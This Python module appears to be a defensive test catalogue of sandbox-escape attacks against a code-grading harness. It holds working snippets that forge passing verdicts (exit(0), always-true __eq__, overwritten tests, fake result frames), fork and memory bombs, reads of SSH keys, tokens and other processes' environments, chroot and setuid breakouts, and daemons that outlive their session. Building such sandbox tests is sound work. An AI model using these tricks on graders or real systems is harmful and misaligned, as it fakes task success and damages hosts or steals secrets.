"""What hostile code tries in order to be paid, or to do harm: the attacks of `sandbox_escapes`.

Each is the text of a module that should define `double(x)`, and is right only if its attack has worked:
so a passed test is a successful attack. What happens outside (a file, a process, a signal, a connection) is looked at
from outside. `WORLD` is a dictionary of places to attack, put in front of the text: attackers here know the place.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: what it is, in a few words.
        kind: "forge" (be paid without solving), "harm" (use up the machine), "read", "write", "network", "process".
        code: the module.
        tame: whether it is harmless enough to run without a sandbox too, for comparison.
    """

    name: str
    kind: str
    code: str
    tame: bool = False


def _reads(expression: str) -> str:
    """A module that is right if an expression gives a text with the canary, or bytes of it."""
    return f"""
def look():
    import os, glob, sys
    try:
        found = {expression}
    except Exception:
        return False
    found = found if isinstance(found, bytes) else str(found).encode()
    return b"canary-" in found
def double(x):
    return 2 * x if look() else None
"""


def _works(statements: str) -> str:
    """A module that is right if statements come to `done = True`."""
    body = "\n".join("        " + line for line in statements.strip("\n").splitlines())
    return f"""
def attempt():
    import ctypes, os, signal, socket, struct, subprocess, sys, time
    done = False
    try:
{body}
    except BaseException:
        return False
    return done
def double(x):
    return 2 * x if attempt() else None
"""


_FORGE = [
    Attack(
        "sys.exit(0) on import",
        "forge",
        """
import sys
sys.exit(0)
""",
        True,
    ),
    Attack(
        "sys.exit(0) when called",
        "forge",
        """
import sys
def double(x): sys.exit(0)
""",
        True,
    ),
    Attack(
        "os._exit(0) on import",
        "forge",
        """
import os
os._exit(0)
""",
        True,
    ),
    Attack(
        "os._exit(0) when called",
        "forge",
        """
import os
def double(x): os._exit(0)
""",
        True,
    ),
    Attack(
        "__eq__ that is always true",
        "forge",
        """
class Yes:
    def __eq__(self, other): return True
    __hash__ = None
def double(x): return Yes()
""",
        True,
    ),
    Attack(
        "int with an __eq__ that is always true",
        "forge",
        """
class Yes(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
def double(x): return Yes(0)
""",
        True,
    ),
    Attack(
        "builtins replaced",
        "forge",
        """
import builtins
builtins.AssertionError = type('E', (BaseException,), {})
builtins.all = lambda *a: True
builtins.abs = lambda *a: 0
builtins.len = lambda *a: 0
builtins.isinstance = lambda *a: True
def double(x): return None
""",
    ),
    Attack(
        "functions with the names of the tests' own",
        "forge",
        """
def abs(x): return 0
def all(x): return True
def isinstance(a, b): return True
def double(x): return None
""",
    ),
    Attack(
        "unittest and pytest disarmed",
        "forge",
        """
import sys, types, unittest
unittest.TestCase.assertEqual = lambda *a, **k: None
unittest.TestCase.run = lambda *a, **k: None
unittest.main = lambda *a, **k: sys.exit(0)
sys.modules['pytest'] = types.ModuleType('pytest')
def double(x): return None
""",
    ),
    Attack(
        "tests overwritten on disk",
        "forge",
        """
import glob, os, sys
for folder in {'.', '/tmp', *sys.path, os.path.dirname(sys.argv[0]) or '.'}:
    for path in glob.glob(os.path.join(folder, '*test*')):
        try:
            open(path, 'w').write('')
        except OSError:
            pass
def double(x): return None
""",
    ),
    Attack(
        "verdict line printed",
        "forge",
        r"""
import sys
def double(x):
    for stream in (sys.stdout, sys.stderr, sys.__stdout__):
        print('PASSED', '{"passed": true}', '1 passed in 0.01s', sep='\n', file=stream, flush=True)
""",
    ),
    Attack(
        "verdict frames written to every open file",
        "forge",
        r"""
import os
def double(x):
    for nonce in (bytes(16), b'\xff' * 16):
        for letter in (b'P', b'E'):
            text = nonce + letter + b'""'
            for fd in range(64):
                try:
                    os.write(fd, len(text).to_bytes(4, 'big') + text)
                except OSError:
                    pass
""",
    ),
    Attack(
        "verdict frame behind every secret found in memory",
        "forge",
        """
import gc, os, sys
def secrets():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if isinstance(value, bytes):
                yield value[:16]
            closure = getattr(value, '__closure__', None) or ()
            for cell in closure:
                try:
                    if isinstance(cell.cell_contents, bytes):
                        yield cell.cell_contents[:16]
                except ValueError:
                    pass
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, (list, tuple)):
            for item in thing:
                if isinstance(item, bytes) and len(item) == 16:
                    yield item
def double(x):
    for nonce in set(secrets()):
        for letter in (b'P', b'P', b'E'):
            text = nonce + letter + b'""'
            for fd in range(3, 16):
                try:
                    os.write(fd, len(text).to_bytes(4, 'big') + text)
                except OSError:
                    pass
""",
    ),
    Attack(
        "verdict in place of an answer, with the right echo",
        "forge",
        """
import os, sys
def double(x):
    frame = sys._getframe()
    while frame and 'echo' not in frame.f_locals:
        frame = frame.f_back
    echo = frame.f_locals['echo'] if frame else bytes(16)
    for answer in (b'{"passed": true}', b'P""', b'{"value": true}'):
        text = echo + answer
        for fd in range(3, 16):
            try:
                os.write(fd, len(text).to_bytes(4, 'big') + text)
            except OSError:
                pass
""",
    ),
    Attack(
        "answers given before the questions",
        "forge",
        """
import os
for fd in range(3, 16):
    for value in range(200):
        text = bytes(16) + b'{"value": %d}' % value
        try:
            os.write(fd, len(text).to_bytes(4, 'big') + text)
        except OSError:
            pass
def double(x): return None
""",
    ),
    Attack(
        "answer encoder replaced",
        "forge",
        """
import json, sys
json.dumps = lambda *a, **k: '{"value": {"object": 0}, "passed": true}'
def double(x): return None
""",
    ),
    Attack(
        "harness rewritten through its frames",
        "forge",
        """
import sys
frame = sys._getframe()
while frame:
    for name in list(frame.f_globals):
        if callable(frame.f_globals[name]) and name not in ('compile', 'exec'):
            frame.f_globals[name] = lambda *a, **k: True
    frame = frame.f_back
def double(x): return None
""",
    ),
    Attack(
        "expected values looked for in callers and memory",
        "forge",
        r"""
import gc, re, sys
def double(x):
    texts = []
    frame = sys._getframe()
    while frame:
        texts += [v for v in list(frame.f_locals.values()) + list(frame.f_globals.values())]
        texts += list(frame.f_code.co_consts)
        frame = frame.f_back
    texts += [o for o in gc.get_objects() if isinstance(o, (list, tuple, dict))]
    for text in texts:
        hit = re.search(r'double\(%d\) == (-?\d+)' % x, repr(text)[:1 << 16])
        if hit:
            return int(hit.group(1))
""",
        True,
    ),
    Attack(
        "tests read from standard input and open files",
        "forge",
        r"""
import os, re
seen = b''
for fd in range(0, 64):
    try:
        os.set_blocking(fd, False)
        seen += os.read(fd, 1 << 16)
    except OSError:
        pass
def double(x):
    hit = re.search(rb'double\(%d\) == (-?\d+)' % x, seen)
    return int(hit.group(1)) if hit else None
""",
    ),
    Attack(
        "verdict written when the interpreter goes",
        "forge",
        """
import atexit, os, sys
atexit.register(lambda: (print('PASSED', flush=True), os._exit(0)))
sys.excepthook = lambda *a: os._exit(0)
def double(x): return None
""",
        True,
    ),
    Attack(
        "test's comparison traced and changed",
        "forge",
        """
import sys
def trace(frame, event, argument):
    for name in ('expected', 'result', 'passed'):
        if name in frame.f_locals:
            frame.f_locals[name] = None
    return trace
sys.settrace(trace)
def double(x): return None
""",
    ),
    Attack(
        "exception that no handler catches",
        "forge",
        """
class Gone(BaseException): pass
def double(x): raise Gone()
""",
    ),
    Attack(
        "mutable argument changed to fit",
        "forge",
        """
class Int(int): pass
def double(x):
    x = x if isinstance(x, list) else [x]
    x[:] = []
    return x
""",
        True,
    ),
    Attack(
        "pickle on the pipe",
        "forge",
        """
import os, pickle
class Evil:
    def __reduce__(self): return (os._exit, (0,))
def double(x):
    text = pickle.dumps(Evil())
    for fd in range(3, 16):
        try:
            os.write(fd, len(text).to_bytes(4, 'big') + text)
        except OSError:
            pass
    return pickle.dumps(Evil())
""",
    ),
    Attack(
        "deeply nested answer",
        "forge",
        """
import json, os, sys
def double(x):
    frame = sys._getframe()
    while frame and 'echo' not in frame.f_locals:
        frame = frame.f_back
    text = (frame.f_locals['echo'] if frame else bytes(16)) + b'[' * 100000
    for fd in range(3, 16):
        try:
            os.write(fd, len(text).to_bytes(4, 'big') + text)
        except OSError:
            pass
""",
    ),
    Attack(
        "frame announced with 4 GB",
        "forge",
        r"""
import os
def double(x):
    for fd in range(3, 16):
        try:
            os.write(fd, b'\xff\xff\xff\xff' * 8)
        except OSError:
            pass
    while True: pass
""",
    ),
    Attack(
        "compressed bomb and huge number as answers",
        "forge",
        r"""
import zlib
def double(x):
    return [zlib.compress(bytes(1 << 22), 9), 10 ** 100000, '\ud800', float('nan')]
""",
    ),
]

_HARM = [
    Attack(
        "endless loop",
        "harm",
        """
def double(x):
    while True: pass
""",
    ),
    Attack(
        "endless loop on import",
        "harm",
        """
while True: pass
""",
    ),
    Attack(
        "endless sleep, signals ignored",
        "harm",
        """
import signal, time
for n in range(1, 32):
    try:
        signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def double(x): time.sleep(3600)
""",
    ),
    Attack(
        "stops itself",
        "harm",
        """
import os, signal
def double(x):
    while True: os.kill(os.getpid(), signal.SIGSTOP)
""",
    ),
    Attack(
        "regular expression that backtracks for ever",
        "harm",
        """
import re
def double(x): return re.match('(a+)+$', 'a' * 64 + 'b')
""",
    ),
    Attack(
        "power tower",
        "harm",
        """
def double(x): return 9 ** 9 ** 9 ** 9
""",
    ),
    Attack(
        "fork bomb",
        "harm",
        """
import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    ),
    Attack(
        "thread bomb",
        "harm",
        """
import threading, time
def double(x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass
""",
    ),
    Attack(
        "memory bomb",
        "harm",
        """
def double(x):
    kept = []
    while True: kept.append(bytearray(1 << 22))
""",
    ),
    Attack(
        "memory bomb that swallows MemoryError",
        "harm",
        """
def double(x):
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 16))
        except MemoryError:
            pass
""",
    ),
    Attack(
        "memory spread over processes",
        "harm",
        """
import os, time
def double(x):
    for n in range(8):
        try:
            if os.fork() == 0: break
        except OSError:
            break
    kept = b'x' * (48 << 20)
    time.sleep(60)
""",
    ),
    Attack(
        "memory of nobody: shared segments and memory files",
        "harm",
        _works(
            """
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(0, 64 << 20, 0o1600)
done = segment >= 0
for n in range(4):
    memory = os.memfd_create('x')
    os.ftruncate(memory, 64 << 20)
    done = os.write(memory, bytes(64 << 20)) == 64 << 20 and done
"""
        ),
    ),
    Attack(
        "disk filled",
        "harm",
        _works(
            """
written = 0
for n in range(64):
    with open('/tmp/%d' % n, 'wb') as file:
        for k in range(64):
            written += file.write(bytes(1 << 20))
            file.flush()
        done = written > 256 << 20
"""
        ),
    ),
    Attack(
        "a gigabyte to standard output",
        "harm",
        """
import os
def double(x):
    for n in range(1 << 14): os.write(1, bytes(1 << 16))
""",
    ),
    Attack(
        "a gigabyte to standard error",
        "harm",
        """
import os
def double(x):
    for n in range(1 << 14): os.write(2, bytes(1 << 16))
""",
    ),
    Attack(
        "a gigabyte to every open file",
        "harm",
        """
import os
def double(x):
    while True:
        for fd in range(1, 16):
            try:
                os.write(fd, b'x' * (1 << 16))
            except OSError:
                pass
""",
    ),
    Attack(
        "a gigabyte as the answer",
        "harm",
        """
def double(x): return 'x' * (1 << 30)
""",
    ),
    Attack(
        "open files used up",
        "harm",
        _works(
            """
kept = []
while len(kept) < 100000:
    kept.append(os.open('/dev/null', os.O_RDONLY))
done = True
"""
        ),
    ),
    Attack(
        "recursion without an end",
        "harm",
        """
import sys
sys.setrecursionlimit(1 << 30)
def double(x): return double(x)
""",
    ),
    Attack(
        "crash of the interpreter",
        "harm",
        """
import ctypes
def double(x): return ctypes.string_at(0)
""",
    ),
    Attack(
        "limits raised",
        "harm",
        _works(
            """
import resource
resource.setrlimit(resource.RLIMIT_NPROC, (1 << 16, 1 << 16))
resource.setrlimit(resource.RLIMIT_AS, (1 << 40, 1 << 40))
done = True
"""
        ),
    ),
]

_READ = [
    Attack("environment", "read", _reads("dict(os.environ)"), True),
    Attack("environment of the parent", "read", _reads("open('/proc/%d/environ' % os.getppid(), 'rb').read()")),
    Attack(
        "environment of a neighbour", "read", _reads("open('/proc/%d/environ' % WORLD['victim'], 'rb').read()"), True
    ),
    Attack(
        "environment of every process",
        "read",
        """
import glob, os
def double(x):
    for path in glob.glob('/proc/[0-9]*/environ'):
        try:
            if b'canary-' in open(path, 'rb').read():
                return 2 * x
        except OSError:
            pass
""",
        True,
    ),
    Attack(
        "memory of the asker", "read", _reads("(open('/proc/%d/maps' % WORLD['asker']).read(), 'canary-')[1]"), True
    ),
    Attack(
        "own memory through /proc",
        "read",
        r"""
import os, re
def double(x):
    try:
        lines = open('/proc/self/maps').read().splitlines()
        memory = open('/proc/self/mem', 'rb', 0)
    except OSError:
        return None
    for line in lines:
        low, high = (int(part, 16) for part in line.split()[0].split('-'))
        try:
            memory.seek(low)
            hit = re.search(rb'double\(%d\) == (-?\d+)' % x, memory.read(min(high - low, 1 << 24)))
        except (OSError, ValueError, OverflowError):
            continue
        if hit:
            return int(hit.group(1))
""",
    ),
    Attack("secret file", "read", _reads("open(WORLD['secret']).read()"), True),
    Attack(
        "key in the home folder", "read", _reads("open(os.path.join(WORLD['home'], '.ssh', 'id_ed25519')).read()"), True
    ),
    Attack("token of Ray", "read", _reads("open(os.path.join(WORLD['home'], '.ray', 'auth_token')).read()"), True),
    Attack(
        "secret file through a link",
        "read",
        _reads("(os.symlink(WORLD['secret'], '/tmp/l'), open('/tmp/l').read())[1]"),
    ),
    Attack("secret file through /proc/1/root", "read", _reads("open('/proc/1/root' + WORLD['secret']).read()")),
    Attack(
        "secret file through a handle",
        "read",
        _works(
            """
libc = ctypes.CDLL(None, use_errno=True)
root = os.open('/', os.O_RDONLY)
handle = struct.pack('IIQ', 8, 1, 2)
done = libc.syscall(304, root, handle, os.O_RDONLY) >= 0
"""
        ),
    ),
    Attack("our own source", "read", _reads("(open(WORLD['source']).read(), 'canary-')[1]"), True),
    Attack("passwords of the host", "read", _reads("(open('/etc/passwd').read(), 'canary-')[1]"), True),
    Attack("name of the host", "read", _works("done = socket.gethostname() == WORLD['host']"), True),
    Attack(
        "inherited files",
        "read",
        """
import os
def double(x):
    for fd in range(3, 1024):
        try:
            os.lseek(fd, 0, 0)
            if b'canary-' in os.read(fd, 4096):
                return 2 * x
        except OSError:
            pass
""",
    ),
    Attack(
        "memory of another process",
        "read",
        _works(
            """
libc = ctypes.CDLL(None, use_errno=True)
attach, seize = 16, 0x4206
for pid in (os.getppid(), 1, WORLD['asker']):
    done = done or pid != os.getpid() and pid > 0 and libc.ptrace(seize, pid, 0, 0) == 0
"""
        ),
    ),
]

_NETWORK = [
    Attack(
        "connection to this machine",
        "network",
        _works("""
socket.create_connection(('127.0.0.1', WORLD['port']), 1)
done = True
"""),
        True,
    ),
    Attack(
        "connection to this machine's own address",
        "network",
        _works("""
socket.create_connection((WORLD['address'], WORLD['port']), 1)
done = True
"""),
        True,
    ),
    Attack(
        "name server asked",
        "network",
        _works(
            """
line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
line.sendto(b'x', ('192.0.2.1', 53))
done = True
"""
        ),
        True,
    ),
    Attack(
        "socket in the file system",
        "network",
        _works("""
line = socket.socket(socket.AF_UNIX)
line.connect(WORLD['socket'])
done = True
"""),
        True,
    ),
    Attack(
        "socket with an abstract name",
        "network",
        _works(r"""
line = socket.socket(socket.AF_UNIX)
line.connect('\0' + WORLD['abstract'])
done = True
"""),
        True,
    ),
    Attack(
        "socket of the hypervisor",
        "network",
        _works(
            """
line = socket.socket(40, socket.SOCK_STREAM)
line.settimeout(1)
line.connect((2, 1024))
done = True
"""
        ),
    ),
    Attack(
        "raw packets",
        "network",
        _works("""
socket.socket(socket.AF_PACKET, socket.SOCK_RAW).bind(('eth0', 0))
done = True
"""),
    ),
]

_WRITE = [
    Attack(
        "file outside",
        "write",
        _works("""
open(WORLD['outside'], 'w').write('was here')
done = True
"""),
        True,
    ),
    Attack(
        "interpreter's own files",
        "write",
        _works("""
open(os.path.join(os.path.dirname(os.__file__), 'canary_planted.py'), 'w').write('')
done = True
"""),
    ),
    Attack(
        "root remounted for writing",
        "write",
        _works(
            """
libc = ctypes.CDLL(None, use_errno=True)
done = libc.mount(None, b'/', None, 32 | 4096, None) == 0 or libc.mount(b'none', b'/tmp', b'proc', 0, None) == 0
"""
        ),
    ),
    Attack(
        "new namespaces, and mounts in them",
        "write",
        _works(
            """
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) == 0:
    done = libc.mount(b'proc', b'/tmp', b'proc', 0, None) == 0
"""
        ),
    ),
    Attack(
        "way out of the root by chroot",
        "write",
        _works(
            """
os.mkdir('/tmp/x')
os.chroot('/tmp/x')
os.chdir('../../../..')
os.chroot('.')
open(WORLD['secret'])
done = True
"""
        ),
    ),
    Attack(
        "device made",
        "write",
        _works("""
os.mknod('/tmp/disk', 0o60600, os.makedev(254, 0))
open('/tmp/disk', 'rb').read(512)
done = True
"""),
    ),
    Attack(
        "root regained",
        "write",
        _works("""
os.setuid(0)
done = os.getuid() == 0 and os.path.exists(WORLD['secret'])
"""),
    ),
    Attack(
        "program with the rights of its owner",
        "write",
        _works("""
done = subprocess.run(['/usr/bin/su', '-c', 'id'], capture_output=True, timeout=1).returncode == 0
"""),
    ),
    Attack(
        "hypervisor's ports",
        "write",
        _works("""
libc = ctypes.CDLL(None, use_errno=True)
done = libc.iopl(3) == 0
"""),
    ),
]

_PROCESS = [
    Attack(
        "signals to the asker",
        "process",
        _works("""
os.kill(WORLD['asker'], signal.SIGUSR1)
done = True
"""),
        True,
    ),
    Attack(
        "signals to everybody",
        "process",
        """
import os, signal
def double(x):
    for pid in [-1, os.getppid(), *range(2, 3000)]:
        try:
            os.kill(pid, signal.SIGUSR1 if pid > 0 else 0)
        except OSError:
            pass
""",
    ),
    Attack(
        "surviving daemon",
        "process",
        """
import os, subprocess, sys
def double(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 64)
            os.execv(sys.executable, [sys.executable, '-S', '-c', 'import time; time.sleep(60)', WORLD['mark']])
        os._exit(0)
""",
        True,
    ),
    Attack(
        "surviving daemon that refuses to die with its parent",
        "process",
        """
import ctypes, os, signal, sys
def double(x):
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    for n in range(1, 32):
        try:
            signal.signal(n, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, '-S', '-c', 'import time; time.sleep(60)', WORLD['mark']])
    os._exit(0)
""",
    ),
    Attack(
        "daemon that holds the pipe open",
        "process",
        """
import os, time
def double(x):
    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
    os._exit(0)
""",
    ),
]

ATTACKS: tuple[Attack, ...] = (*_FORGE, *_HARM, *_READ, *_NETWORK, *_WRITE, *_PROCESS)

SOLUTION = "def double(x):\n    return 2 * x\n"
"""The right one, which must pass."""
